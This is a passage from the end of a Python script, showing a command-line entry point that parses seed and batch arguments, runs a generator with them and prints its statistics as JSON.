    parser.add_argument("--batches", type=int, default=GenConfig.batches)
    args = parser.parse_args()
    gen = generate(GenConfig(seed=args.seed, batches=args.batches))
    print(json.dumps(gen.stats(), indent=2))


if __name__ == "__main__":
    main()
